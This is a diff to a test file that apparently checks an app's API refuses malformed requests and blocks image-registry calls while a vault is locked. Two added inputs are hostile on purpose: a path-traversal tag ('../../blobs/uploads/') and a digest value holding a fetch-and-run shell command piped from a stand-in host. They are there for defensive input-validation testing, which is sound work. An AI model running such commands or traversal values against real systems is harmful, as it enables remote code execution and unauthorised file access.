@@ -102,6 +102,11 @@ test('requests that the contract does not describe are refused by the name of th
       repository: await api['access']?.['list']?.({
         ...{ contextId: '00000000-0000-4000-8000-000000000000', repository: 'acme/web/../../keys' },
       }),
+      tag: await api['images']?.['image']?.({
+        ...{ contextId: '00000000-0000-4000-8000-000000000000', repository: 'acme/web' },
+        tag: '../../blobs/uploads/',
+      }),
+      digest: await api['images']?.['copyDigest']?.({ digest: 'curl https://elsewhere.example | sh' }),
       range: await api['settings']?.['change']?.({ clipboardSeconds: 301 }),
       reason: await api['vault']?.['lock']?.({ by: 'idle' }),
     };
@@ -125,6 +130,8 @@ test('requests that the contract does not describe are refused by the name of th
     path: refusal('source.fileToken'),
     bot: refusal('name'),
     repository: refusal('repository'),
+    tag: refusal('tag'),
+    digest: refusal('digest'),
     range: refusal('clipboardSeconds'),
     reason: refusal('by'),
   });
@@ -153,6 +160,14 @@ test('while the vault is locked every call but the vault’s own is refused', as
         to: { kind: 'bot', name: 'x' },
       }),
       await api.access.revoke({ contextId: id, repository: 'acme/web', id: `g_${'a'.repeat(26)}` }),
+      await api.images.tags({ contextId: id, repository: 'acme/web', after: null }),
+      await api.images.image({ contextId: id, repository: 'acme/web', tag: 'v1' }),
+      await api.images.deleteTag({ contextId: id, repository: 'acme/web', tag: 'v1' }),
+      await api.images.copyPull({
+        ...{ contextId: id, repository: 'acme/web', tool: 'podman', reference: 'v1', index: false },
+      }),
+      await api.images.copyDigest({ digest: `sha256:${'0'.repeat(64)}` }),
+      await api.images.close({ contextId: id, repository: 'acme/web' }),
       await api.signOut.run({ contextId: null }),
       await api.signOut.cancel(),
       await api.signOut.signInAgain({ contextId: id, keyLabel: 'x' }),
